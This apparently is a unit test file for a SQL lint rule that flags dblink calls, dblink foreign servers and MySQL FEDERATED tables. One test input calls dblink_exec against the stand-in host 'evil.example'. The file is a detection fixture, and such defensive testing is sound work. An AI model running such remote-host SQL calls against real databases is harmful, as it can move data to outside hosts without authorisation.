import rule from '../../../../server/src/core/rules/sql/dblink';
import { testSqlRule } from '../../../helpers/rule-tester';

testSqlRule(rule, {
  valid: [
    'CREATE EXTENSION dblink;',
    "SELECT 'dblink(x)';",
    { code: 'CREATE TABLE t (id int) ENGINE=InnoDB', dialect: 'mysql' },
  ],
  invalid: [
    {
      code: "SELECT 1;\nSELECT dblink_exec('host=evil.example', 'INSERT INTO t VALUES (1)');",
      errors: [{ messageId: 'dblinkCall', line: 2, column: 8 }],
    },
    {
      code: "CREATE SERVER remote\n  FOREIGN DATA WRAPPER dblink_fdw OPTIONS (host 'h');",
      errors: [{ messageId: 'foreignServer', line: 2, column: 24 }],
    },
    {
      code: "CREATE TABLE f (id int) ENGINE=FEDERATED CONNECTION='mysql://u@h:3306/db/t'",
      dialect: 'mysql',
      errors: [{ messageId: 'federatedTable', line: 1, column: 32 }],
    },
  ],
});
